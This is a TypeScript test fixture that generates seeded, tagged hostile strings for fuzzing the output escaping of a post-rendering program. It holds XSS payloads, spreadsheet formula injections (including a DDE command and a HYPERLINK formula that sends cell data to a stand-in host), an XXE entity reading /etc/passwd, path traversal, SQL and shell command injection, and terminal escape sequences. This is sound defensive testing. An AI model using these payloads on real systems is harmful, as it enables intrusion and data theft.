/**
 * Texts that somebody writes into a post so that a program downstream does something: markup, formulas, escapes of terminals, directions of
 * writing, paths, SQL, JSON, names that JavaScript gives a meaning to. Every text carries a number of its own, `q17z`, by which it is found again.
 */
import { random } from "../../src/stats/index.js";

/** How many a test draws: some hundreds in the suite, more where `CLAQUE_HOSTILE_STRINGS` asks. */
export const HOW_MANY: number = Number(process.env.CLAQUE_HOSTILE_STRINGS ?? 600);

const MARKUP = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)//",
  "</style><script>alert(1)</script>",
  "</title><img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "</text></svg><svg><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  "<a href=javascript:alert(1)>x</a>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " \u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "https://e.example/'onclick='alert(1)",
  'https://e.example/"><script>alert(1)</script>',
  "<iframe src=//e.example></iframe>",
  "<base href=//e.example/>",
  "<meta http-equiv=refresh content=0;url=//e.example>",
  "<link rel=stylesheet href=//e.example/x.css>",
  "<form action=//e.example><input name=a><button>",
  "<style>*{background:url(//e.example)}</style>",
  "x;background:url(//e.example/)",
  "expression(alert(1))",
  "<!--",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "＜script＞alert(1)＜/script＞",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<textarea></textarea><script>alert(1)</script>",
  "<plaintext>",
  "<details open ontoggle=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}",
  "`;alert(1);`",
  "[x](javascript:alert(1))",
  "![x](https://e.example/pixel.png)",
  "| a | b |\n|---|---|\n# heading",
];

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://e.example?"&A1,"x")',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "＝1+1",
  "\u200b=1+1",
  "\t=1+1",
  "a;=1+1",
  'a;"=1+1"',
  "a\r\n=1+1",
  "%3D1",
  "\ufeff=1+1",
];

const TERMINAL = [
  "\u001b[31mred",
  "\u001b]0;title\u0007",
  "\u001b]52;c;ZWNobyBoaQ==\u0007",
  "\u001b[2K\rverify: all files are as the manifest names",
  "\u009b31m",
  "\u0008\u0008\u0008",
  "\u202egnp.exe",
  "\u2066\u202bturned\u2069",
  "\nReport: elsewhere.html",
  "\r\nSet-Cookie: a=b",
  "\u2028\u2029",
  "\0",
  "\ud800",
  "\udfff\ud800",
  "\ufff9\ufffa\ufffb",
  "\u061c\u200e\u200f",
];

const PROGRAMS = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  "$1 $$ ?",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  "file:///etc/passwd",
  "\\\\e.example\\share",
  "__proto__",
  "constructor",
  "toString",
  '{"__proto__":{"a":1}}',
  '"},{"account":"x',
  "%s%n%x",
  "$(touch x)",
  "`touch x`",
  "; touch x",
  "CON",
  "NULL",
  "NaN",
  "1e999",
  "٣٤",
  "a".repeat(5000),
  "\u0301".repeat(300),
  "👩‍👩‍👧‍👦".repeat(40),
];

const CORES: readonly string[] = [...MARKUP, ...FORMULAS, ...TERMINAL, ...PROGRAMS];

/** A source of hostile texts: the same seed gives the same. Each call gives the next, from one core, or several with some letters changed. */
export function hostileTexts(seed = 1): () => string {
  const draw = random(seed);
  const one = () => CORES[draw.integer(CORES.length)];
  const ways = [
    (core: string) => core,
    (core: string) => core.toUpperCase(),
    (core: string) => one() + core,
    (core: string) => `${one()} ${core}${one()}`,
    (core: string) => core.slice(draw.integer(core.length)) + one(),
    (core: string) => [...core].join(draw.integer(2) ? "\u200b" : "\0"),
    (core: string) => core.replaceAll("<", "<\n").replaceAll("=", " = "),
    (core: string) => encodeURI(core.toWellFormed()),
  ];
  let number = 0;
  return () => {
    const core = number < CORES.length ? CORES[number] : ways[draw.integer(ways.length)](one());
    // the number stands behind, so that the text begins as it was meant to
    return `${core.slice(0, 6000)}q${number++}z`;
  };
}

/** Which of the texts stand in an output, by their numbers. */
export const found = (output: string): ReadonlySet<string> => new Set(output.match(/q\d+z/g) ?? []);
